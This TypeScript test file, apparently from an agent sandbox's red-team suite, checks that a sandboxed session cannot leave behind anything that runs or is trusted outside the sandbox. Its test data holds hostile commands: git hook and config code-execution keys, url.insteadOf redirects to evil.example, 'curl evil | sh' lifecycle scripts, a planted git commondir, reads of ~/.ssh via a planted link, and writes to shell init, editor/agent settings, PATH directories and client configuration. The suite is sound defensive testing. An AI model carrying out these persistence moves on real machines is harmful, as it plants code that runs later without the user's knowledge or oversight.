// Red-team cases 39–49 of research sandbox.md §4 (persistence and trust handoff): the session tries
// to leave something that code outside the sandbox runs or trusts later — git hooks and config,
// shell start-up files, editor and agent settings, PATH entries, caches, client configuration. Each
// attempt must fail on the host's files, and the audit spool must hold the mount decision.

import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import {
  SANDBOX_SKIP,
  assertEndedNormally,
  assertFailed,
  assertMountDenied,
  assertSucceeded,
  attempts,
  auditsEachMount,
  fixture,
  gitRepo,
  host,
  link,
  policyYaml,
  put,
  reviewOf,
  runSession,
  snapshot,
  sha,
  show,
} from './sandbox-harness.js';

const skip = SANDBOX_SKIP;

void test(
  'redteam-39 git hooks cannot be written, renamed from samples or made executable',
  { skip },
  async (t) => {
    const f = fixture(t);
    gitRepo(f.workspace);
    const hooks = join(f.workspace, '.git/hooks');
    const before = snapshot(hooks);
    const tries = {
      'write-hook': 'echo "echo pwned" > .git/hooks/pre-commit',
      'rename-sample': 'mv .git/hooks/pre-commit.sample .git/hooks/pre-commit',
      'copy-sample': 'cp .git/hooks/pre-push.sample .git/hooks/pre-push',
      'chmod-sample': 'chmod +x .git/hooks/post-update.sample && test -x .git/hooks/post-update.sample',
      'delete-sample': 'rm .git/hooks/pre-rebase.sample',
    };
    const s = await runSession(
      f,
      attempts(
        tries,
        'git -c user.email=rt@example.invalid -c user.name=rt commit -q --allow-empty -m in-sandbox; echo "commit=$?"',
      ),
    );
    assertFailed(s, Object.keys(tries));
    assert.match(s.stdout, /commit=0/, `ordinary git work still works inside\n${show(s)}`);
    assert.deepEqual(snapshot(hooks), before, 'the hooks directory is unchanged on the host');
    assertEndedNormally(s);
    assertMountDenied(s, hooks, 'trust-handoff');
  },
);

void test('redteam-40 execution primitives cannot be added to .git/config', { skip }, async (t) => {
  const f = fixture(t);
  gitRepo(f.workspace);
  const config = join(f.workspace, '.git/config');
  const before = sha(config);
  const keys: Record<string, string> = {
    'core.fsmonitor': 'touch /tmp/pwned',
    'core.hooksPath': 'evil-hooks',
    'core.sshCommand': 'sh -c evil',
    'core.pager': 'sh -c evil',
    'core.editor': 'sh -c evil',
    'alias.st': '!sh -c evil',
    'diff.external': 'evil',
    'diff.txt.textconv': 'evil',
    'filter.x.clean': 'evil',
    'filter.x.process': 'evil',
    'credential.helper': '!evil',
    'url.https://evil.example/.insteadOf': 'https://github.com/',
    'url.https://evil.example/.pushInsteadOf': 'https://github.com/',
    'include.path': '../../shared.gitconfig',
    'includeIf.gitdir:/.path': '../../shared.gitconfig',
    'remote.origin.receivepack': 'evil',
  };
  const tries: Record<string, string> = Object.fromEntries(
    Object.entries(keys).map(([k, v]) => [k, `git config ${k} '${v}'`]),
  );
  tries['append-raw'] = 'printf "[core]\\n\\tfsmonitor = evil\\n" >> .git/config';
  tries['config-file-flag'] = 'git config --file .git/config core.pager evil';
  tries['replace-file'] = 'cp .git/config c && echo "[alias] x = !evil" >> c && mv c .git/config';
  const s = await runSession(f, attempts(tries));
  assertFailed(s, Object.keys(tries));
  assert.equal(sha(config), before, '.git/config is unchanged on the host');
  assertEndedNormally(s);
  assertMountDenied(s, config, 'trust-handoff');
});

void test(
  'redteam-41 .git/info (attributes routing to filters, exclude) is read-only',
  { skip },
  async (t) => {
    const f = fixture(t);
    gitRepo(f.workspace);
    const tries = {
      'info-attributes': 'echo "* filter=lfs" > .git/info/attributes',
      'info-exclude': 'echo "*.key" >> .git/info/exclude',
      'info-new': 'echo x > .git/info/sparse-checkout',
    };
    const s = await runSession(f, attempts(tries));
    assertFailed(s, Object.keys(tries));
    assert.ok(!existsSync(join(f.workspace, '.git/info/attributes')));
    assertEndedNormally(s);
    await auditsEachMount(t, s, [join(f.workspace, '.git/info')]);
  },
);

void test(
  'redteam-41 a new .gitattributes filter= line is blocked or reported after the session',
  {
    skip,
  },
  async (t) => {
    const f = fixture(t);
    gitRepo(f.workspace);
    const s = await runSession(f, attempts({ gitattributes: 'echo "* filter=x diff=x" >> .gitattributes' }));
    assertEndedNormally(s);
    const reported = reviewOf(s).changed.includes('.gitattributes');
    assert.ok(s.stdout.includes('try gitattributes: FAILED') || reported, show(s));
  },
);

void test(
  'redteam-42 a core.hooksPath inside the workspace is protected even when it does not exist at launch',
  { skip },
  async (t) => {
    const f = fixture(t);
    gitRepo(f.workspace);
    host('git', ['-C', f.workspace, 'config', 'core.hooksPath', 'tools/hooks']);
    put(f.workspace, 'tools/build.sh', 'echo build\n');
    const s = await runSession(
      f,
      attempts(
        { 'create-hooks-path': 'mkdir -p tools/hooks && echo evil > tools/hooks/pre-commit' },
        'echo x >> tools/build.sh; echo "project=$?"',
      ),
    );
    assertFailed(s, ['create-hooks-path']);
    assert.match(s.stdout, /project=0/, 'the rest of tools/ stays writable');
    assert.ok(!existsSync(join(f.workspace, 'tools/hooks/pre-commit')));
    assertEndedNormally(s);
    await auditsEachMount(t, s, [join(f.workspace, 'tools/hooks')]);
  },
);

void test(
  'redteam-42 the hooks of a repository nested in the workspace (core.hooksPath, husky) are protected',
  {
    skip,
  },
  async (t) => {
    const f = fixture(t);
    const svc = join(f.workspace, 'svc');
    gitRepo(svc);
    host('git', ['-C', svc, 'config', 'core.hooksPath', '.githooks']);
    put(svc, '.githooks/pre-commit', '#!/bin/sh\nexit 0\n', 0o755);
    const web = join(f.workspace, 'web');
    gitRepo(web);
    host('git', ['-C', web, 'config', 'core.hooksPath', '.husky/_']);
    put(web, '.husky/_/h', '#!/bin/sh\n', 0o755);
    put(web, '.husky/pre-commit', 'npm test\n');
    const before = { svc: snapshot(join(svc, '.githooks')), web: snapshot(join(web, '.husky')) };
    const tries = {
      'nested-githooks': 'echo evil >> svc/.githooks/pre-commit',
      'nested-githooks-new': 'echo evil > svc/.githooks/post-checkout',
      'nested-husky-script': 'echo evil >> web/.husky/pre-commit',
    };
    const s = await runSession(f, attempts(tries));
    assertEndedNormally(s);
    assertFailed(s, Object.keys(tries));
    assert.deepEqual(snapshot(join(svc, '.githooks')), before.svc, 'svc/.githooks changed on the host');
    assert.deepEqual(snapshot(join(web, '.husky')), before.web, 'web/.husky changed on the host');
  },
);

void test(
  "redteam-42 a core.hooksPath from the user's global git config is resolved and protected too",
  {
    skip,
  },
  async (t) => {
    const f = fixture(t);
    gitRepo(f.workspace);
    put(f.home, '.gitconfig', '[core]\n\thooksPath = .hooks\n');
    const resolved = spawnSync('git', ['-C', f.workspace, 'rev-parse', '--git-path', 'hooks'], {
      encoding: 'utf8',
      env: { PATH: process.env.PATH ?? '', HOME: f.home },
    }).stdout.trim();
    assert.equal(resolved, '.hooks', 'git on the host would run hooks from the workspace .hooks');
    const s = await runSession(
      f,
      attempts({ 'global-hooks-path': 'mkdir -p .hooks && echo evil > .hooks/pre-commit' }),
    );
    assertEndedNormally(s);
    assertFailed(s, ['global-hooks-path']);
  },
);

void test(
  'redteam-40 a file .git/config includes cannot be rewritten, and the hooks path it sets is protected',
  { skip },
  async (t) => {
    const f = fixture(t);
    gitRepo(f.workspace);
    const shared = put(f.workspace, 'config/repo.gitconfig', '[core]\n\thooksPath = tools/hooks\n');
    host('git', ['-C', f.workspace, 'config', 'include.path', '../config/repo.gitconfig']);
    assert.equal(
      host('git', ['-C', f.workspace, 'config', '--get', 'core.hooksPath']).trim(),
      'tools/hooks',
      'git on the host reads the included file',
    );
    put(f.workspace, 'tools/build.sh', 'echo build\n');
    const before = sha(shared);
    const tries = {
      'rewrite-include': 'printf "[core]\\n\\thooksPath = evil\\n" > config/repo.gitconfig',
      'included-hooks-path': 'mkdir -p tools/hooks && echo evil > tools/hooks/pre-commit',
    };
    const s = await runSession(f, attempts(tries, 'echo x > config/other.txt; echo "project=$?"'));
    assertEndedNormally(s);
    assertFailed(s, Object.keys(tries));
    assert.match(s.stdout, /project=0/, `the rest of config/ stays writable\n${show(s)}`);
    assert.equal(sha(shared), before, 'the included file is unchanged on the host');
    assert.ok(!existsSync(join(f.workspace, 'tools/hooks/pre-commit')));
    await auditsEachMount(t, s, [shared, join(f.workspace, 'tools/hooks')]);
  },
);

void test(
  'redteam-43 a commondir planted in .git cannot send git on the host to a planted config and hooks',
  // git reads $GIT_DIR/commondir when it exists, and an empty file or directory in its place
  // breaks git, so no mount stops its creation: the post-session review finds it and renames it
  // aside (docs/redteam.md G15).
  { skip },
  async (t) => {
    const f = fixture(t);
    gitRepo(f.workspace);
    const s = await runSession(
      f,
      [
        'git init -q --bare .evil && cp -r .git/objects .git/refs .git/HEAD .evil/',
        'printf "#!/bin/sh\\necho PWNED\\n" > .evil/hooks/pre-commit && chmod +x .evil/hooks/pre-commit',
        'echo ../.evil > .git/commondir',
      ].join('\n'),
    );
    assertEndedNormally(s);
    assert.match(s.stderr, /planted .*\.git\/commondir .*renamed/, show(s));
    assert.equal(
      host('git', ['-C', f.workspace, 'rev-parse', '--git-common-dir']).trim(),
      '.git',
      'git on the host still uses the workspace’s own common directory',
    );
    const review = s.events.find((e) => e.type === 'session.review' && e.severity === 'critical');
    assert.ok(review, 'a critical session.review event');
    assert.match(String(review.outcome?.planted_commondir), /\.git\/commondir$/);
    assert.equal(review.outcome?.disarmed, true);
  },
);

void test(
  'redteam-43 a commondir planted in a repository of another writable directory is found and renamed aside too',
  { skip },
  async (t) => {
    const f = fixture(t);
    gitRepo(f.workspace);
    // Another project the session may write (f.other is denied by the red-team policy).
    const other = join(f.root, 'proj2');
    gitRepo(other);
    const policy = policyYaml(f, {
      fsAllow: [`{ id: second-project, paths: ["${other}/**"], access: rw }`],
    });
    const s = await runSession(
      f,
      [
        `cd ${other}`,
        'git init -q --bare .evil && cp -r .git/objects .git/refs .git/HEAD .evil/',
        'printf "#!/bin/sh\\necho PWNED\\n" > .evil/hooks/pre-commit && chmod +x .evil/hooks/pre-commit',
        'echo ../.evil > .git/commondir',
      ].join('\n'),
      { policy },
    );
    assertEndedNormally(s);
    const planted = join(other, '.git/commondir');
    assert.ok(s.stderr.includes(`planted ${planted}`), show(s));
    assert.equal(
      host('git', ['-C', other, 'rev-parse', '--git-common-dir']).trim(),
      '.git',
      'git on the host still uses the other repository’s own common directory',
    );
    const review = s.events.find((e) => e.type === 'session.review' && e.severity === 'critical');
    assert.ok(review, 'a critical session.review event');
    assert.equal(review.outcome?.planted_commondir, planted);
    assert.equal(review.outcome?.disarmed, true);
  },
);

void test(
  'redteam-43 a linked worktree cannot reach its common git directory; planted gitdir links widen nothing',
  { skip },
  async (t) => {
    const f = fixture(t);
    const main = join(f.root, 'main');
    gitRepo(main);
    const wt = join(f.root, 'wt');
    host('git', ['-C', main, 'worktree', 'add', '-q', wt]);
    put(wt, 'README.md', 'worktree\n');
    // A repository in the worktree whose objects directory is planted as a link to ~/.ssh.
    const planted = join(wt, 'vendor/lib');
    gitRepo(planted);
    spawnSync('rm', ['-rf', join(planted, '.git/objects')]);
    link(join(f.home, '.ssh'), join(planted, '.git/objects'));
    const policy = policyYaml(f, { fsAllow: [`{ id: main-repo, paths: ["${main}/**"], access: rw }`] });
    const commonHooks = snapshot(join(main, '.git/hooks'));
    const commonConfig = sha(join(main, '.git/config'));
    const tries = {
      'common-hook': `echo evil > ${join(main, '.git/hooks/pre-commit')}`,
      'common-config': 'git config core.fsmonitor evil',
      'repoint-gitdir': `echo "gitdir: ${join(f.root, 'elsewhere')}" > .git`,
      'planted-objects': 'cat vendor/lib/.git/objects/id_rsa',
    };
    const s = await runSession(f, attempts(tries), { policy, workspace: wt });
    assert.notEqual(s.code, null, show(s));
    if (s.code === 3 || s.code === 125) {
      // Refusing the launch over the planted link is safe too.
      assert.match(s.stderr, /symlink/, show(s));
      return;
    }
    assertFailed(s, Object.keys(tries));
    assert.ok(!s.stdout.includes('rt-secret'), 'the planted link read nothing');
    assert.deepEqual(snapshot(join(main, '.git/hooks')), commonHooks);
    assert.equal(sha(join(main, '.git/config')), commonConfig);
    assertEndedNormally(s);
    assertMountDenied(s, join(f.home, '.ssh'), 'home-secrets');
    await auditsEachMount(t, s, [join(main, '.git/hooks'), join(main, '.git/config'), join(wt, '.git')]);
  },
);

const SHELL_INIT = [
  '.bash_profile',
  '.bash_login',
  '.profile',
  '.zshrc',
  '.zshenv',
  '.zprofile',
  '.zlogin',
  '.inputrc',
  '.config/fish/config.fish',
];

void test(
  'redteam-44 shell and session init files in HOME and direnv/tool-manager files in the workspace cannot be written',
  { skip },
  async (t) => {
    const f = fixture(t);
    const bashrc = sha(join(f.home, '.bashrc'));
    const tries: Record<string, string> = {
      'home-.bashrc': `echo evil >> ${join(f.home, '.bashrc')}`,
      ...Object.fromEntries(
        SHELL_INIT.map((n) => [
          `home-${n}`,
          `mkdir -p $(dirname ${join(f.home, n)}) && echo evil > ${join(f.home, n)}`,
        ]),
      ),
      'workspace-.envrc': 'echo evil > .envrc',
      'workspace-.tool-versions': 'echo "nodejs 20" > .tool-versions',
      'workspace-.mise.toml': 'echo "[hooks]" > .mise.toml',
    };
    const s = await runSession(f, attempts(tries), { policy: policyYaml(f, { home: 'rw' }) });
    assertFailed(s, Object.keys(tries));
    assert.equal(sha(join(f.home, '.bashrc')), bashrc, '~/.bashrc is unchanged');
    for (const n of SHELL_INIT) assert.ok(!existsSync(join(f.home, n)), `${n} appeared in HOME`);
    assertEndedNormally(s);
    assertMountDenied(s, join(f.workspace, '.envrc'), 'trust-handoff');
    await auditsEachMount(t, s, [
      join(f.home, '.bashrc'),
      ...['.bash_profile', '.profile', '.zshenv', '.inputrc'].map((n) => join(f.home, n)),
      join(f.workspace, '.tool-versions'),
      join(f.workspace, '.mise.toml'),
    ]);
  },
);

void test('redteam-45 editor and agent auto-exec configuration cannot be written', { skip }, async (t) => {
  const f = fixture(t);
  put(f.workspace, '.vscode/settings.json', '{}\n');
  put(f.workspace, '.vscode/tasks.json', '{}\n');
  put(f.workspace, '.claude/settings.json', '{}\n');
  const before = snapshot(f.workspace);
  const ws: Record<string, string> = {
    '.vscode/tasks.json': '{"tasks":[{"runOn":"folderOpen"}]}',
    '.vscode/settings.json': '{"terminal.integrated.env.linux":{}}',
    '.vscode/launch.json': '{}',
    '.idea/workspace.xml': '<x/>',
    '.devcontainer/devcontainer.json': '{"postCreateCommand":"evil"}',
    '.claude/settings.json': '{"hooks":{}}',
    '.claude/settings.local.json': '{"apiKeyHelper":"evil"}',
    '.claude/hooks/evil.sh': 'evil',
    '.claude/commands/x.md': 'evil',
    '.claude/agents/x.md': 'evil',
    '.claude/skills/x/SKILL.md': 'evil',
    '.mcp.json': '{"mcpServers":{}}',
    '.cursor/mcp.json': '{}',
    '.github/hooks/hooks.json': '{}',
    '.gemini/settings.json': '{}',
  };
  const home: Record<string, string> = {
    '.gemini/settings.json': '{}',
    '.gemini/trustedFolders.json': '{}',
    '.claude/settings.json': '{"hooks":{}}',
  };
  const write = (path: string, text: string): string =>
    `mkdir -p $(dirname ${path}) && echo '${text}' > ${path}`;
  const tries: Record<string, string> = {
    ...Object.fromEntries(Object.entries(ws).map(([p, x]) => [`ws-${p}`, write(join(f.workspace, p), x)])),
    ...Object.fromEntries(Object.entries(home).map(([p, x]) => [`home-${p}`, write(join(f.home, p), x)])),
  };
  const s = await runSession(f, attempts(tries), { policy: policyYaml(f, { home: 'rw' }) });
  assertFailed(s, Object.keys(tries));
  assert.deepEqual(snapshot(f.workspace), before, 'the workspace is unchanged on the host');
  for (const p of Object.keys(home)) assert.ok(!existsSync(join(f.home, p)), `~/${p} appeared`);
  assertEndedNormally(s);
  assertMountDenied(s, join(f.workspace, '.vscode/tasks.json'), 'trust-handoff');
  assertMountDenied(s, join(f.workspace, '.vscode/settings.json'), 'trust-handoff');
  await auditsEachMount(
    t,
    s,
    [
      '.vscode',
      '.idea',
      '.devcontainer',
      '.claude/settings.json',
      '.mcp.json',
      '.cursor',
      '.github',
      '.gemini',
    ].map((p) => join(f.workspace, p)),
  );
});

void test(
  'redteam-45 a workspace whose .vscode has no tasks.json still starts under a policy protecting it',
  {
    skip,
  },
  async (t) => {
    const f = fixture(t);
    put(f.workspace, '.vscode/extensions.json', '{}\n');
    const s = await runSession(f, 'echo started');
    assert.match(s.stdout, /started/, show(s));
    assertEndedNormally(s);
  },
);

void test(
  'redteam-46 build and lifecycle files stay writable (they are the work) and their changes are reported',
  { skip },
  async (t) => {
    const f = fixture(t);
    put(f.workspace, 'package.json', '{"scripts":{"test":"node test.js"}}\n');
    const tries = {
      'package-json': 'echo \'{"scripts":{"prepare":"curl evil | sh"}}\' > package.json',
      makefile: 'printf "all:\\n\\tcurl evil | sh\\n" > Makefile',
      'pre-commit-config': 'echo "repos: []" > .pre-commit-config.yaml',
      'setup-py': 'echo "import os" > setup.py',
      'node-modules-bin': 'mkdir -p node_modules/.bin && echo evil > node_modules/.bin/tsc',
    };
    const s = await runSession(f, attempts(tries));
    assertSucceeded(s, Object.keys(tries));
    assertEndedNormally(s);
    await t.test('audit: the session end lists changed build and lifecycle files for review', () => {
      const { changed } = reviewOf(s);
      for (const n of [
        'package.json',
        'Makefile',
        '.pre-commit-config.yaml',
        'setup.py',
        'node_modules/.bin/tsc',
      ])
        assert.ok(changed.includes(n), `${n} is not reported: ${changed.join(', ')}`);
    });
  },
);

void test(
  'redteam-47 directories on PATH outside the workspace are read-only; ~/.local/bin cannot be created',
  { skip },
  async (t) => {
    const f = fixture(t);
    const onPath = join(f.home, 'tools/bin');
    put(onPath, 'helper', '#!/bin/sh\n', 0o755);
    const tries = {
      'local-bin': `mkdir -p ${join(f.home, '.local/bin')} && echo evil > ${join(f.home, '.local/bin/git')}`,
      'path-dir-new': `echo evil > ${join(onPath, 'ssh')}`,
      'path-dir-replace': `echo evil > ${join(onPath, 'helper')}`,
    };
    const s = await runSession(f, attempts(tries), {
      policy: policyYaml(f, { home: 'rw' }),
      env: { PATH: `${onPath}:${process.env.PATH ?? '/usr/bin:/bin'}` },
    });
    assertFailed(s, Object.keys(tries));
    assert.ok(!existsSync(join(f.home, '.local/bin/git')));
    assert.ok(!existsSync(join(onPath, 'ssh')));
    assertEndedNormally(s);
    // The mask lands on the first missing component: ~/.local, or ~/.local/bin once Perimeter's
    // state directory (~/.local/state/perimeter) exists.
    const local = s.events.some((e) => e.outcome?.dest === join(f.home, '.local'))
      ? join(f.home, '.local')
      : join(f.home, '.local/bin');
    await auditsEachMount(t, s, [local, onPath]);
  },
);

void test(
  'redteam-47 ~/bin, which a login shell puts on PATH once it exists, cannot be created',
  {
    skip,
  },
  async (t) => {
    const f = fixture(t);
    const s = await runSession(
      f,
      attempts({ 'home-bin': `mkdir -p ${join(f.home, 'bin')} && echo evil > ${join(f.home, 'bin/git')}` }),
      { policy: policyYaml(f, { home: 'rw' }) },
    );
    assertEndedNormally(s);
    assertFailed(s, ['home-bin']);
  },
);

void test(
  'redteam-48 package caches used later by unsandboxed builds are private to the session',
  { skip },
  async (t) => {
    const f = fixture(t);
    const planted = [
      '.npm/_cacache/index-v5/rt',
      '.cache/pip/http/rt',
      '.cache/pre-commit/repo/.pre-commit-hooks.yaml',
    ];
    // The caches exist on the host, as they do for anyone who has run npm, pip or pre-commit.
    for (const d of ['.npm/_cacache/index-v5', '.cache/pip/http', '.cache/pre-commit'])
      put(f.home, `${d}/.keep`, '');
    const s = await runSession(
      f,
      attempts(
        Object.fromEntries(
          planted.map((p) => [p, `mkdir -p $(dirname ${join(f.home, p)}) && echo evil > ${join(f.home, p)}`]),
        ),
      ),
    );
    assertEndedNormally(s);
    assertSucceeded(s, planted); // the tools still have a cache to write: the session's own
    const reached = planted.filter((p) => existsSync(join(f.home, p)));
    assert.deepEqual(reached, [], "files the session wrote into the host's caches");
    for (const d of ['.npm', '.cache']) {
      const mount = s.events.find(
        (e) => e.type === 'filesystem.mount' && e.outcome?.dest === join(f.home, d),
      );
      assert.equal(mount?.outcome?.mount, 'tmpfs', `${d} is the session's own`);
      assert.match(String(mount?.outcome?.why), /private/);
    }
  },
);

void test(
  'redteam-49 SSH, git, npm, PyPI and Docker client configuration cannot be written',
  { skip },
  async (t) => {
    const f = fixture(t);
    const before = snapshot(f.home);
    const files = [
      '.ssh/config',
      '.ssh/authorized_keys',
      '.ssh/known_hosts',
      '.gitconfig',
      '.npmrc',
      '.pypirc',
      '.docker/config.json',
      '.config/git/config',
    ];
    const tries = Object.fromEntries(
      files.map((p) => [p, `mkdir -p $(dirname ${join(f.home, p)}) && echo evil >> ${join(f.home, p)}`]),
    );
    const s = await runSession(f, attempts(tries), { policy: policyYaml(f, { home: 'rw' }) });
    assertFailed(s, Object.keys(tries));
    assert.deepEqual(snapshot(f.home), before, 'HOME is unchanged on the host');
    assertEndedNormally(s);
    for (const p of ['.ssh', '.npmrc', '.pypirc', '.docker/config.json'])
      assertMountDenied(s, join(f.home, p), 'home-secrets');
    await auditsEachMount(t, s, [join(f.home, '.gitconfig'), join(f.home, '.config/git')]);
  },
);

void test(
  'redteam-49 a single file granted on its own (~/.gitconfig read, ~/.bash_history read-write) does not stop the session',
  {
    skip,
  },
  async (t) => {
    const f = fixture(t);
    put(f.home, '.bash_history', 'ls\n');
    const before = sha(join(f.home, '.gitconfig'));
    const policy = policyYaml(f, {
      home: 'none',
      fsAllow: [
        '{ id: git-identity, paths: ["~/.gitconfig"], access: read }',
        '{ id: history, paths: ["~/.bash_history"], access: rw }',
      ],
    });
    const s = await runSession(
      f,
      attempts({
        'read-gitconfig': `cat ${join(f.home, '.gitconfig')}`,
        'append-history': `echo pwd >> ${join(f.home, '.bash_history')}`,
        'write-gitconfig': `echo "[alias] x = !evil" >> ${join(f.home, '.gitconfig')}`,
      }),
      { policy },
    );
    assertEndedNormally(s);
    assertSucceeded(s, ['read-gitconfig', 'append-history']);
    assertFailed(s, ['write-gitconfig']);
    assert.equal(sha(join(f.home, '.gitconfig')), before);
  },
);

void test(
  'redteam-49 other client configuration that runs code (cargo, gradle, yarn, pip) cannot be written either',
  {
    skip,
  },
  async (t) => {
    const f = fixture(t);
    const files = ['.cargo/config.toml', '.gradle/init.d/evil.gradle', '.yarnrc.yml', '.config/pip/pip.conf'];
    const s = await runSession(
      f,
      attempts(
        Object.fromEntries(
          files.map((p) => [p, `mkdir -p $(dirname ${join(f.home, p)}) && echo evil > ${join(f.home, p)}`]),
        ),
      ),
      { policy: policyYaml(f, { home: 'rw' }) },
    );
    assertEndedNormally(s);
    assertFailed(s, files);
  },
);
